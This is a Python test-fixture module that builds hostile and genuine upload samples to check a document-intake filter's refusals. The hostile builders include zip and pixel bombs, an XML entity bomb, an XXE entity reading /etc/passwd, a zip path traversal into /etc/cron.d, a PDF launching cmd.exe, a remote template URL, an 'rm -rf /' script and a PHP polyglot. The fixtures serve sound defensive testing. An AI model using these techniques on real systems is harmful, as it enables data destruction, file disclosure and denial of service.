"""Files as an attacker, a broken phone or a careless office might send them, built on the spot.

`HOSTILE`: (label, file name, builder of the bytes, words the refusal must contain).
`GENUINE`: (label, file name, builder, media type).
"""

import io
import struct
import warnings
import zipfile
import zlib
from functools import cache
from pathlib import Path

import docx
import openpyxl
import typst
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
WORD = "application/msword"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
MB = 1024 * 1024


# --- genuine documents -------------------------------------------------------------------------


@cache
def word():
    document = docx.Document()
    document.add_heading("万顺村自治章程")
    document.add_paragraph("第一条 村民会议是最高议事机构。")
    return saved(document)


@cache
def workbook():
    book = openpyxl.Workbook()
    book.active.title = "花名册"
    book.active.append(["姓名", "小组"])
    book.active.append(["张三", "一组"])
    return saved(book)


def saved(document):
    stream = io.BytesIO()
    document.save(stream)
    return stream.getvalue()


@cache
def pdf():
    return typst.compile(b"= Charter\nFirst article.")


@cache
def slides():
    kind = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    return zipped(
        {
            "[Content_Types].xml": f'<Types><Override ContentType="{kind}"/></Types>',
            "ppt/presentation.xml": "<p/>",
            "ppt/slides/slide1.xml": (
                '<s xmlns:a="urn:a"><a:p><a:t>创建</a:t><a:t>动员会</a:t></a:p></s>'
            ),
        }
    )


def open_document(kind="text", extra=None):
    return zipped(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}",
            "content.xml": '<o xmlns:t="urn:t"><t:p>村务<t:span>公开</t:span>栏</t:p></o>',
            "META-INF/manifest.xml": "<manifest/>",
            **(extra or {}),
        }
    )


def ofd(extra=None):
    page = '<p xmlns:o="urn:o"><o:TextObject><o:TextCode>备案回执</o:TextCode></o:TextObject></p>'
    return zipped({"OFD.xml": "<OFD/>", "Doc_0/Pages/Page_0/Content.xml": page, **(extra or {})})


@cache
def photo(kind="JPEG", size=(64, 48), exif=None):
    image = Image.new("RGB", size, (200, 60, 60))
    image.paste((60, 60, 200), (0, 0, size[0] // 2, size[1]))
    stream = io.BytesIO()
    image.save(stream, kind, **({"exif": exif} if exif else {}))
    return stream.getvalue()


def phone_photo():
    """Lying on its side (orientation 6) and with a place."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "手机"
    exif[0x8825] = {1: "N", 2: (30.0, 39.0, 36.0), 3: "E", 4: (104.0, 3.0, 36.0)}
    return photo(exif=exif.tobytes())


def heic():
    """As an iPhone sends it: 64 × 48 pixels lying on their side (orientation 6), with a place."""
    return (Path(__file__).parent / "township" / "phone.heic").read_bytes()


def empty_heic(width=4032, height=3024):
    """Boxes that speak of a picture which is not there."""
    ispe = box(b"ispe", struct.pack(">III", 0, width, height))
    meta = box(b"meta", b"\0\0\0\0" + box(b"iprp", box(b"ipco", ispe)))
    return box(b"ftyp", b"heic\0\0\0\0mif1heic") + meta + box(b"mdat", b"\1" * 500)


def film(brand=b"isom"):
    return (
        box(b"ftyp", brand + b"\0\0\2\0isommp41")
        + box(b"moov", b"\0" * 200)
        + box(b"mdat", b"\2" * 400)
    )


def long_boxed_film():
    """Cameras write the length of large boxes in eight bytes."""
    return film() + struct.pack(">I4sQ", 1, b"free", 16 + 50) + bytes(50)


def box(kind, content):
    return struct.pack(">I4s", len(content) + 8, kind) + content


def mp3():
    return b"ID3\x04\0\0\0\0\0\x0a" + b"\0" * 10 + b"\xff\xfb\x90\x64" + b"\0" * 400


def wav():
    return b"RIFF" + struct.pack("<I", 36 + 200) + b"WAVEfmt " + b"\0" * 20 + b"data" + b"\0" * 204


# --- OLE compound files ------------------------------------------------------------------------


def compound(streams):
    """A compound file of 512-byte sectors; every stream is padded to at least 4,096 bytes
    unless its name is in the mini stream (shorter than that)."""
    small = {name: content for name, content in streams.items() if len(content) < 4096}
    large = {name: content for name, content in streams.items() if len(content) >= 4096}
    mini, mini_table, starts = b"", [], {}
    for name, content in small.items():
        starts[name] = len(mini_table)
        count = max(1, -(-len(content) // 64))
        mini_table += [len(mini_table) + step + 1 for step in range(count - 1)] + [0xFFFFFFFE]
        mini += content.ljust(count * 64, b"\0")
    sectors, table = [], []

    def put(content):
        first, count = len(sectors), max(1, -(-len(content) // 512))
        padded = content.ljust(count * 512, b"\0")
        sectors.extend(padded[at : at + 512] for at in range(0, len(padded), 512))
        table.extend([first + step + 1 for step in range(count - 1)] + [0xFFFFFFFE])
        return first

    for name, content in large.items():
        starts[name] = put(content)
    mini_start = put(mini) if mini else 0xFFFFFFFE
    mini_fat = put(struct.pack(f"<{len(mini_table)}I", *mini_table)) if mini else 0xFFFFFFFE
    entries = [_entry("Root Entry", 5, mini_start, len(mini))]
    entries += [_entry(name, 2, starts[name], len(content)) for name, content in streams.items()]
    directory = put(b"".join(entries))
    # The places of the first 109 sectors of the allocation table stand in the header, further
    # ones in a sector of their own: enough for seven and a half megabytes.
    more_places = int(len(table) > 109 * 127)
    fat_sectors = -(-(len(table) * 129 // 128 + 4) // 128)
    places = [len(sectors) + more_places + step for step in range(fat_sectors)]
    beyond = len(sectors) if more_places else 0xFFFFFFFE
    if more_places:
        rest = places[109:] + [0xFFFFFFFF] * (127 - len(places[109:]))
        sectors.append(struct.pack("<128I", *rest, 0xFFFFFFFE))
        table.append(0xFFFFFFFC)
    table += [0xFFFFFFFD] * fat_sectors
    fat = struct.pack(f"<{len(table)}I", *table).ljust(fat_sectors * 512, b"\xff")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIII", 0, fat_sectors, directory, 0, 4096, mini_fat)
    header += struct.pack("<III", 1, beyond, more_places)
    header += struct.pack("<109I", *(places + [0xFFFFFFFF] * 109)[:109])
    return header + b"".join(sectors) + fat


def _entry(name, kind, start, length):
    raw = name.encode("utf-16-le") + b"\0\0"
    return (
        raw.ljust(64, b"\0")
        + struct.pack("<HBBIII", len(raw), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
        + b"\0" * 36
        + struct.pack("<III", start, length, 0)
    )


def old_word(flags=0, extra=None, text=b""):
    header = struct.pack("<HHHHHH", 0xA5EC, 0x00C1, 0, 0x0804, 0, flags).ljust(1024, b"\0")
    main = (header + text).ljust(5000, b"\0")
    return compound({"WordDocument": main, "1Table": b"t" * 4200, **(extra or {})})


def strange_word():
    return old_word().replace(b"\xec\xa5\xc1\0", b"\0\0\xc1\0")


def odd_sectors():
    raw = bytearray(old_word())
    struct.pack_into("<H", raw, 30, 7)
    return bytes(raw)


def old_sheet(*records):
    start = struct.pack("<HH", 0x0809, 16) + b"\0" * 16
    body = start + b"".join(records) + struct.pack("<HH", 0x000A, 0)
    return compound({"Workbook": body.ljust(4500, b"\0")})


def endless_sheet():
    """Only empty records, the last one cut short."""
    return compound({"Workbook": struct.pack("<HH", 0x0809, 16) + bytes(4396)})


def old_slides(token=0xE391C05F):
    user = struct.pack("<HHIII", 0, 0x0FF6, 20, 20, token).ljust(60, b"\0")
    return compound({"PowerPoint Document": b"p" * 4200, "Current User": user})


# --- zip tricks ----------------------------------------------------------------------------------


def zipped(entries, method=zipfile.ZIP_DEFLATED):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", method) as package:
        for name, content in entries.items():
            package.writestr(name, content)
    return stream.getvalue()


def with_entries(document, extra):
    """The document with entries added or replaced."""
    entries = {}
    with zipfile.ZipFile(io.BytesIO(document)) as package:
        for name in package.namelist():
            entries[name] = package.read(name)
    return zipped(entries | extra)


def word_with(extra):
    return with_entries(word(), extra)


def long_word():
    return word_with({"word/document.xml": f"<d>{'<p>字</p>' * 300_000}</d>"})


@cache
def bomb_ratio():
    return word_with({"word/media/image1.bmp": bytes(60 * MB)})


@cache
def bomb_size():
    return word_with({f"word/media/image{n}.bin": bytes(40 * MB) for n in range(8)})


@cache
def bomb_entries():
    return word_with({f"word/media/{n}": b"" for n in range(10_001)})


def bomb_nested():
    inner = word()
    for _ in range(4):
        inner = word_with({"word/embeddings/inner.docx": inner})
    return inner


def bomb_overlap():
    """Two directory entries that share the same bytes; padding hides it from a plain sum."""
    raw = zipped({"[Content_Types].xml": word_types(), "a.bin": b"x" * 3000}, zipfile.ZIP_STORED)
    first, last = raw.find(b"PK\1\2"), raw.rfind(b"PK\1\2")
    end = raw.rfind(b"PK\5\6")
    directory = raw[first:end] + raw[last:end].replace(b"a.bin", b"b.bin")
    body = raw[:first] + bytes(4000)
    return (
        body
        + directory
        + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 3, 3, len(directory), len(body), 0)
    )


def twice_the_same_entry():
    with warnings.catch_warnings(), io.BytesIO() as stream:
        warnings.simplefilter("ignore", UserWarning)
        with zipfile.ZipFile(stream, "w") as package:
            for _ in range(2):
                package.writestr("[Content_Types].xml", word_types())
        return stream.getvalue()


def word_types():
    return f'<Types><Override ContentType="{DOCX}.main+xml"/></Types>'


def entities():
    return word_with(
        {
            "word/document.xml": '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">'
            "]><w:document>&b;</w:document>"
        }
    )


def late_entities():
    """The document type hides behind three megabytes of comment."""
    return word_with(
        {
            "word/document.xml": f"<!--{'x' * 3 * MB}-->"
            '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]><d>&a;</d>'
        }
    )


def deep_xml():
    return word_with({"word/document.xml": "<a>" * 5000 + "</a>" * 5000})


def locked_zip():
    raw = bytearray(word())
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = raw.find(mark)
        while at != -1:
            raw[at + offset] |= 1
            at = raw.find(mark, at + 4)
    return bytes(raw)


def outside_template():
    relations = (
        '<Relationships><Relationship Id="r1" Type="http://x/relationships/attachedTemplate" '
        'Target="http://198.51.100.7/t.dotm" TargetMode="External"/></Relationships>'
    )
    return word_with({"word/_rels/settings.xml.rels": relations})


def flipped(content, at):
    raw = bytearray(content)
    raw[at] ^= 0xFF
    return bytes(raw)


def broken_zip():
    """One byte of the compressed text flipped: the checksum no longer agrees."""
    content = zipped(
        {"[Content_Types].xml": word_types(), "word/document.xml": "<d/>" + "x" * 500}, 0
    )
    return flipped(content, content.find(b"xxx") + 40)


# --- PDF and picture tricks ----------------------------------------------------------------------


def pdf_written(change):
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def locked_pdf(user="1234"):
    return pdf_written(lambda w: w.encrypt(user, owner_password="chief", algorithm="RC4-128"))


def dictionary(**entries):
    return DictionaryObject({NameObject(f"/{name}"): value for name, value in entries.items()})


def launching_pdf():
    action = dictionary(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))
    return pdf_written(lambda w: w.root_object.update(dictionary(OpenAction=action)))


def pageless_pdf():
    pages = dictionary(Type=NameObject("/Pages"), Kids=ArrayObject(), Count=NumberObject(0))
    return pdf_written(lambda w: w.root_object.update(dictionary(Pages=pages)))


def script():
    return dictionary(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))


def scripted_pdf():
    names = ArrayObject([TextStringObject("a"), script()])
    tree = dictionary(JavaScript=dictionary(Names=names))
    return pdf_written(lambda w: w.root_object.update(dictionary(Names=tree)))


def scripted_link():
    link = dictionary(Subtype=NameObject("/Link"), A=dictionary(Next=script()))
    return pdf_written(lambda w: w.pages[0].update(dictionary(Annots=ArrayObject([link]))))


def huge_png(side=40_000):
    """Sixteen hundred million pixels in a few kilobytes."""
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(5001 * 2000), 9)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        chunk(kind, content)
        for kind, content in ((b"IHDR", header), (b"IDAT", rows), (b"IEND", b""))
    )


def chunk(kind, content):
    check = struct.pack(">I", zlib.crc32(kind + content))
    return struct.pack(">I", len(content)) + kind + content + check


def huge_gif():
    raw = bytearray(photo("GIF"))
    struct.pack_into("<HH", raw, 6, 7000, 7000)
    return bytes(raw)


def short_tiff():
    content = photo("TIFF", (200, 200))
    return content[:60_000] if content[4:8] == b"\x08\0\0\0" else content[: len(content) // 2]


def overlong_compound():
    """A stream that claims to be longer than the file."""
    raw = bytearray(old_word())
    (directory,) = struct.unpack_from("<I", raw, 48)
    struct.pack_into("<I", raw, (directory + 1) * 512 + 128 + 120, 100_000_000)
    return bytes(raw)


def looping_compound():
    """The directory's chain of sectors leads back to itself."""
    raw = bytearray(old_word())
    (fat,) = struct.unpack_from("<I", raw, 76)
    (directory,) = struct.unpack_from("<I", raw, 48)
    struct.pack_into("<I", raw, (fat + 1) * 512 + directory * 4, directory)
    return bytes(raw)


def large_text():
    return "村务公开\n".encode() * (21 * MB // 13)


HOSTILE = [
    ("empty", "签到册.pdf", lambda: b"", "空文件"),
    ("program", "工具.exe", lambda: b"MZ\x90\0" + b"\0" * 200, "程序或脚本"),
    ("program named as photo", "照片.jpg", lambda: b"MZ\x90\0" + b"\0" * 200, "程序或脚本"),
    ("ELF named as PDF", "表.pdf", lambda: b"\x7fELF" + b"\0" * 200, "程序或脚本"),
    ("shell script", "表.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "程序或脚本"),
    ("batch file", "run.bat", lambda: b"@echo off\r\n", "程序或脚本"),
    ("web page", "公示.html", lambda: b"<html><script>1</script></html>", "网页"),
    ("web page named as text", "公示.txt", lambda: b"\n <!DOCTYPE html><html></html>", "网页"),
    ("script inside text", "公示.txt", lambda: "公示 <script>alert(1)</script>".encode(), "网页"),
    ("UTF-16 web page", "公示.txt", lambda: "<html>".encode("utf-16"), "网页"),
    ("SVG", "公章.svg", lambda: b"<svg xmlns='x' onload='1'/>", "网页或带脚本的图形"),
    ("SVG named as PNG", "公章.png", lambda: b"<?xml version='1.0'?><svg/>", "网页或带脚本的图形"),
    ("zip", "照片.zip", lambda: zipped({"a.txt": "a"}), "压缩包"),
    ("zip named as Word", "章程.docx", lambda: zipped({"a.txt": "a"}), "压缩包"),
    ("empty zip", "章程.docx", lambda: zipped({}), "压缩包"),
    ("RAR", "材料.rar", lambda: b"Rar!\x1a\x07\1\0", "压缩包"),
    ("JAR", "章程.docx", lambda: zipped({"META-INF/MANIFEST.MF": "M"}), "程序或脚本"),
    ("RTF named as doc", "章程.doc", lambda: b"{\\rtf1 x}", "RTF"),
    ("AVIF", "照片.avif", lambda: box(b"ftyp", b"avif\0\0\0\0avif"), "AVIF图片"),
    ("random bytes", "材料.dat", lambda: bytes(range(256)) * 9, "不是可以收的文件"),
    ("binary text", "材料.txt", lambda: b"abc\0\1\2" * 100, "不是可以收的文件"),
    ("too large a text", "材料.txt", large_text, "最大20MB"),
    ("macro format", "表.xlsm", lambda: word(), "带宏"),
    ("macro part", "章程.docx", lambda: word_with({"word/vbaProject.bin": b"v"}), "宏"),
    (
        "macro content type",
        "章程.docx",
        lambda: word_with({"[Content_Types].xml": "<T a='application/x.macroEnabled.main+xml'/>"}),
        "宏",
    ),
    (
        "Excel 4 macros",
        "表.xlsx",
        lambda: with_entries(workbook(), {"xl/macrosheets/s.xml": "<x/>"}),
        "宏",
    ),
    ("OLE macro", "章程.doc", lambda: old_word(extra={"_VBA_PROJECT": b"v" * 10}), "宏"),
    (
        "OLE macro sheet",
        "表.xls",
        lambda: old_sheet(struct.pack("<HHIBBB", 0x0085, 7, 0, 0, 1, 0)),
        "宏",
    ),
    ("ODF macro", "章程.odt", lambda: open_document(extra={"Basic/Standard/m.xml": "<x/>"}), "宏"),
    ("ODF script", "章程.odt", lambda: open_document(extra={"Scripts/python/m": "x"}), "宏"),
    ("locked OOXML", "章程.docx", lambda: compound({"EncryptedPackage": b"e" * 5000}), "密码"),
    ("locked doc", "章程.doc", lambda: old_word(flags=0x0100), "密码"),
    ("locked xls", "表.xls", lambda: old_sheet(struct.pack("<HH", 0x002F, 6) + b"\0" * 6), "密码"),
    ("locked ppt", "汇报.ppt", lambda: old_slides(token=0xF3D1C4DF), "密码"),
    ("locked PDF", "章程.pdf", locked_pdf, "密码"),
    ("locked zip entries", "章程.docx", locked_zip, "密码"),
    (
        "locked ODF",
        "章程.odt",
        lambda: open_document(extra={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
        "密码",
    ),
    ("locked OFD", "回执.ofd", lambda: ofd({"Encryptions.xml": "<e/>"}), "密码"),
    ("bomb by ratio", "章程.docx", bomb_ratio, "展开后大得不正常"),
    ("bomb by size", "章程.docx", bomb_size, "展开后大得不正常"),
    ("bomb by entries", "章程.docx", bomb_entries, "展开后大得不正常"),
    ("bomb by nesting", "章程.docx", bomb_nested, "展开后大得不正常"),
    ("bomb by overlap", "章程.docx", bomb_overlap, "展开后大得不正常"),
    ("entity bomb", "章程.docx", entities, "展开后大得不正常"),
    ("late entities", "章程.docx", late_entities, "展开后大得不正常"),
    ("deep XML", "章程.docx", deep_xml, "展开后大得不正常"),
    (
        "broken XML",
        "章程.docx",
        lambda: word_with({"word/document.xml": "<a><b></a>"}),
        "可能已损坏",
    ),
    ("pixel bomb", "照片.png", huge_png, "展开后大得不正常"),
    ("pixel bomb of Pillow's own size", "照片.png", lambda: huge_png(12_000), "展开后大得不正常"),
    ("GIF pixel bomb", "照片.gif", huge_gif, "展开后大得不正常"),
    ("HEIC pixel bomb", "照片.heic", lambda: empty_heic(60_000, 60_000), "展开后大得不正常"),
    ("HEIC without a picture", "照片.heic", empty_heic, "可能已损坏"),
    ("HEIC cut off", "照片.heic", lambda: heic()[:-40], "可能已损坏"),
    (
        "HEIC with a spoilt picture",
        "照片.heic",
        lambda: heic().replace(heic().partition(b"mdat")[2][:20], b"\xff" * 20),
        "可能已损坏",
    ),
    ("PDF behind a zip", "章程.pdf", lambda: zipped({"a": "a"}) + pdf(), "压缩包"),
    ("zip behind a PDF", "章程.pdf", lambda: pdf() + zipped({"a": "a"}), "夹带"),
    ("page before a PDF", "章程.pdf", lambda: b"<html>" + pdf(), "夹带"),
    ("page behind a PDF", "章程.pdf", lambda: pdf() + b"<script>1</script>", "夹带"),
    ("zip behind a photo", "照片.jpg", lambda: photo() + zipped({"a": "a"}), "夹带"),
    ("script behind a photo", "照片.jpg", lambda: photo() + b"<?php system(1);", "夹带"),
    ("zip behind a GIF", "照片.gif", lambda: photo("GIF") + zipped({"a": "a"}), "夹带"),
    ("program in front of Word", "章程.docx", lambda: b"MZ" + word(), "程序或脚本"),
    ("bytes in front of the zip", "章程.docx", lambda: word()[:4] + b"junk" + word(), "夹带"),
    ("program inside Word", "章程.docx", lambda: word_with({"word/media/a.exe": b"MZ"}), "夹带"),
    (
        "program wrapped in Word",
        "章程.docx",
        lambda: word_with(
            {
                "word/embeddings/o.bin": compound(
                    {"\1Ole10Native": b"\0\0a.exe\0".ljust(5000, b"\0")}
                )
            }
        ),
        "夹带",
    ),
    (
        "path out of the zip",
        "章程.docx",
        lambda: word_with({"../../etc/cron.d/x": b"x"}),
        "可能已损坏",
    ),
    ("template from outside", "章程.docx", outside_template, "外部模板"),
    ("PDF that starts programs", "章程.pdf", launching_pdf, "自动运行"),
    ("PDF with a script", "章程.pdf", scripted_pdf, "自动运行"),
    ("PDF with a script on a link", "章程.pdf", scripted_link, "自动运行"),
    (
        "PDF with a program attached",
        "章程.pdf",
        lambda: pdf_written(lambda w: w.add_attachment("a.exe", b"MZ")),
        "夹带",
    ),
    ("half a PDF", "章程.pdf", lambda: pdf()[: len(pdf()) // 2], "可能已损坏"),
    ("PDF without pages", "章程.pdf", pageless_pdf, "可能已损坏"),
    ("PDF of nothing", "章程.pdf", lambda: b"%PDF-1.4\nstartxref\n0\n%%EOF", "可能已损坏"),
    ("half a photo", "照片.jpg", lambda: photo(size=(640, 480))[:2000], "可能已损坏"),
    ("half a PNG", "照片.png", lambda: photo("PNG", (640, 480))[:-300], "可能已损坏"),
    ("half a TIFF", "扫描.tif", short_tiff, "可能已损坏"),
    ("half a WEBP", "照片.webp", lambda: photo("WEBP", (640, 480))[:200], "可能已损坏"),
    ("half a zip", "章程.docx", lambda: word()[: len(word()) // 2], "可能已损坏"),
    ("broken zip", "章程.docx", broken_zip, "可能已损坏"),
    ("half a doc", "章程.doc", lambda: old_word()[:2000], "可能已损坏"),
    ("looping doc", "章程.doc", looping_compound, "可能已损坏"),
    ("a hundred bytes of doc", "章程.doc", lambda: old_word()[:100], "可能已损坏"),
    ("doc of an unknown make", "章程.doc", strange_word, "可能已损坏"),
    ("doc with odd sectors", "章程.doc", odd_sectors, "可能已损坏"),
    ("overlong doc", "章程.doc", overlong_compound, "可能已损坏"),
    ("compound of nothing known", "章程.doc", lambda: compound({"X": b"x"}), "不是可以收的文件"),
    (
        "xls without a beginning",
        "表.xls",
        lambda: compound({"Workbook": b"x" * 5000}),
        "可能已损坏",
    ),
    (
        "ppt without its user",
        "汇报.ppt",
        lambda: compound({"PowerPoint Document": b"p" * 4200}),
        "可能已损坏",
    ),
    (
        "broken object in Word",
        "章程.docx",
        lambda: word_with({"word/embeddings/o.bin": old_word()[:100]}),
        "可能已损坏",
    ),
    ("same entry twice", "章程.docx", twice_the_same_entry, "可能已损坏"),
    ("template of Office", "章程.docx", lambda: word_with({"[Content_Types].xml": "<T/>"}), "模板"),
    ("ODF drawing", "图.odt", lambda: open_document("graphics"), "压缩包"),
    ("half a film", "现场.mp4", lambda: film()[:-100], "可能已损坏"),
    ("film with three last bytes", "现场.mp4", lambda: film() + b"\0\0\1", "可能已损坏"),
    ("film without index", "现场.mp4", lambda: film().replace(b"moov", b"free"), "可能已损坏"),
    ("ID3 and nothing", "录音.mp3", lambda: b"ID3\x04\0\0\0\0\0\x0a" + b"\0" * 900, "可能已损坏"),
    ("half a WAV", "录音.wav", lambda: wav()[:-100], "可能已损坏"),
]

GENUINE = [
    ("photo named as PDF", "章程.pdf", photo, "image/jpeg"),
    ("PDF named as Word", "章程.docx", pdf, "application/pdf"),
    ("docx named as doc", "章程.doc", word, DOCX),
    ("docx of a messenger", "章程.zip", word, DOCX),
    ("workbook named as Word", "章程.docx", workbook, XLSX),
    ("photo with an unknown ending", "照片.tmp", photo, "image/jpeg"),
    ("a photo of seven dots a side", "点.jpg", lambda: photo(size=(7, 7)), "image/jpeg"),
    ("BMP", "扫描.bmp", lambda: photo("BMP"), "image/bmp"),
    ("PDF", "自治章程.pdf", pdf, "application/pdf"),
    (
        "PDF of an old scanner",
        "旧扫描.pdf",
        lambda: b"\r\n" + pdf() + b"\0" * 900,
        "application/pdf",
    ),
    ("photo", "公开栏.jpg", photo, "image/jpeg"),
    ("photo of a phone", "IMG_0001.JPG", phone_photo, "image/jpeg"),
    (
        "photo with a film behind",
        "动态照片.jpg",
        lambda: photo() + film(),
        "image/jpeg",
    ),
    ("PNG", "截图.png", lambda: photo("PNG"), "image/png"),
    ("GIF", "图.gif", lambda: photo("GIF"), "image/gif"),
    ("WEBP", "图.webp", lambda: photo("WEBP"), "image/webp"),
    ("WEBP named as photo", "微信图片.jpg", lambda: photo("WEBP"), "image/webp"),
    ("TIFF", "扫描.tif", lambda: photo("TIFF"), "image/tiff"),
    ("HEIC", "IMG_0002.HEIC", heic, "image/heic"),
    ("HEIC named as photo", "微信图片.jpg", heic, "image/heic"),
    ("Word", "章程.docx", word, DOCX),
    ("Word without ending", "章程", word, DOCX),
    (
        "Word with a workbook inside",
        "章程.docx",
        lambda: word_with({"word/embeddings/book.xlsx": workbook()}),
        DOCX,
    ),
    (
        "Word with a formula object",
        "章程.docx",
        lambda: word_with({"word/embeddings/o.bin": compound({"Equation Native": b"e" * 90})}),
        DOCX,
    ),
    (
        "Word with a text file inside",
        "章程.docx",
        lambda: word_with({"word/embeddings/o.bin": compound({"\1Ole10Native": b"\0\0a.txt\0"})}),
        DOCX,
    ),
    ("long Word", "章程.docx", long_word, DOCX),
    (
        "Word of eight megabytes",
        "旧章程.doc",
        lambda: old_word(extra={"Data": bytes(8 * MB)}),
        WORD,
    ),
    ("Excel", "花名册.xlsx", workbook, XLSX),
    ("slides", "汇报.pptx", slides, PPTX),
    ("old Word", "旧章程.doc", old_word, WORD),
    ("WPS", "章程.wps", old_word, WORD),
    ("old Excel without an end", "旧表.xls", endless_sheet, "application/vnd.ms-excel"),
    ("old Excel", "旧表.xls", old_sheet, "application/vnd.ms-excel"),
    ("WPS sheet", "表.et", old_sheet, "application/vnd.ms-excel"),
    ("old slides", "汇报.ppt", old_slides, "application/vnd.ms-powerpoint"),
    ("ODF text", "章程.odt", open_document, "application/vnd.oasis.opendocument.text"),
    (
        "ODF sheet",
        "表.ods",
        lambda: open_document("spreadsheet"),
        "application/vnd.oasis.opendocument.spreadsheet",
    ),
    ("OFD", "回执.ofd", ofd, "application/ofd"),
    ("text", "说明.txt", lambda: "第一条\r\n第二条".encode(), "text/plain"),
    ("GBK text", "说明.txt", lambda: "第一条\r\n第二条".encode("gb18030"), "text/plain"),
    ("UTF-16 text", "说明.txt", lambda: "第一条".encode("utf-16"), "text/plain"),
    ("CSV", "名单.csv", lambda: "小组,户数\n一组,32\n".encode(), "text/csv"),
    ("MP3", "录音.mp3", mp3, "audio/mpeg"),
    ("MP3 without ID3", "录音.mp3", lambda: mp3()[20:], "audio/mpeg"),
    ("M4A", "录音.m4a", lambda: film(b"M4A "), "audio/mp4"),
    ("WAV", "录音.wav", wav, "audio/wav"),
    ("MP4 with a long box", "现场.mp4", long_boxed_film, "video/mp4"),
    ("MP4", "现场.mp4", film, "video/mp4"),
    ("film of an iPhone", "现场.MOV", lambda: film(b"qt  "), "video/mp4"),
]
